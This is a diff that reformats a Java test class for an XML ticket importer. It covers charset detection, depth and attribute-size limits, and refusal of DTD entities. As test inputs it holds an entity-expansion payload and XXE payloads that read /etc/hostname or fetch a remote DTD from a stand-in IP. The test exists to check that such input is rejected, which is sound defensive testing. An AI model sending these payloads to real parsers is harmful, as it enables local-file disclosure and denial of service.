@@ -76,18 +76,27 @@ class XmlTest {
                 .isEqualTo("<ticket id=\"8\"><subject>Two</subject><description>é</description></ticket>");
         Gathered wide = Gathered.of(Files.write(folder.resolve("w.xml"), PLAIN.getBytes(StandardCharsets.UTF_16)));
         assertThat(wide.tickets()).hasSize(2);
-        assertThat(wide.pointers).allSatisfy(pointer -> assertThat(pointer.offset()).isEqualTo(-1));
+        assertThat(wide.pointers)
+                .allSatisfy(pointer -> assertThat(pointer.offset()).isEqualTo(-1));
     }
 
     @Test
     void theDeclarationCountsWhereTheBytesAreNoUnicode() throws Exception {
-        String text = "<?xml version=\"1.0\" encoding=\"%s\"?><a><ticket><id>1</id><body>Жизнь и здоровье</body></ticket></a>";
+        String text = "<?xml version=\"1.0\" encoding=\"%s\"?><a><ticket><id>1</id><body>Жизнь и"
+                + " здоровье</body></ticket></a>";
         Path cyrillic = Files.write(
                 folder.resolve("c.xml"), text.formatted("windows-1251").getBytes(Charset.forName("windows-1251")));
-        assertThat(Gathered.of(cyrillic).tickets().getFirst().messages().getFirst().text()).isEqualTo("Жизнь и здоровье");
+        assertThat(Gathered.of(cyrillic)
+                        .tickets()
+                        .getFirst()
+                        .messages()
+                        .getFirst()
+                        .text())
+                .isEqualTo("Жизнь и здоровье");
         Path lies = Files.write(
                 folder.resolve("l.xml"), text.formatted("ISO-8859-1").getBytes(StandardCharsets.UTF_8));
-        assertThat(Gathered.of(lies).tickets().getFirst().messages().getFirst().text()).isEqualTo("Жизнь и здоровье");
+        assertThat(Gathered.of(lies).tickets().getFirst().messages().getFirst().text())
+                .isEqualTo("Жизнь и здоровье");
     }
 
     @Test
@@ -101,16 +110,20 @@ class XmlTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">]><x><ticket><id>1</id><body>&b;</body></ticket></x>",
-                "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/hostname\">]><x><ticket><id>1</id><body>&f;</body></ticket></x>",
-                "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://198.51.100.7/x\"> %p;]><x><ticket><id>1</id><body>b</body></ticket></x>"
+                "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b"
+                        + " \"&a;&a;&a;\">]><x><ticket><id>1</id><body>&b;</body></ticket></x>",
+                "<!DOCTYPE x [<!ENTITY f SYSTEM"
+                        + " \"file:///etc/hostname\">]><x><ticket><id>1</id><body>&f;</body></ticket></x>",
+                "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://198.51.100.7/x\">"
+                        + " %p;]><x><ticket><id>1</id><body>b</body></ticket></x>"
             })
     void entitiesOfTheFilesOwnAreRefused(String xml) throws IOException {
         Path file = Gathered.write(folder, "x.xml", xml);
         assertThatThrownBy(() -> new EvidenceFiles().detect(file))
                 .isInstanceOf(UnreadableFileException.class)
                 .hasMessageContaining("entities of its own");
-        for (String format : new String[] {"generic.xml", "jira.entities", "zendesk.xml", "freshdesk.xml", "jira.rss"}) {
+        for (String format :
+                new String[] {"generic.xml", "jira.entities", "zendesk.xml", "freshdesk.xml", "jira.rss"}) {
             assertThatThrownBy(() -> Gathered.of(file, format))
                     .isInstanceOf(UnreadableFileException.class)
                     .hasMessageContaining("Maybe");
@@ -128,12 +141,16 @@ class XmlTest {
                 Gathered.write(folder, "late.xml", "<tickets><ticket><nice-id>1</nice-id></ticket><ticket>" + deep),
                 "zendesk.xml");
         assertThat(late.tickets()).hasSize(1);
-        assertThat(late.rejects).singleElement().satisfies(reject -> assertThat(reject.reason()).contains("levels"));
+        assertThat(late.rejects)
+                .singleElement()
+                .satisfies(reject -> assertThat(reject.reason()).contains("levels"));
         String attribute = "<entity-engine-xml><Issue id=\"1\" summary=\"ok\"/><Issue id=\"2\" summary=\""
                 + "x".repeat(1 << 20) + "\"/></entity-engine-xml>";
         Gathered wide = Gathered.ofText(folder, "wide.xml", attribute);
         assertThat(wide.tickets()).hasSize(1);
-        assertThat(wide.rejects).singleElement().satisfies(reject -> assertThat(reject.reason()).contains("attribute"));
+        assertThat(wide.rejects)
+                .singleElement()
+                .satisfies(reject -> assertThat(reject.reason()).contains("attribute"));
         assertThat(wide.complete()).isFalse();
     }
 
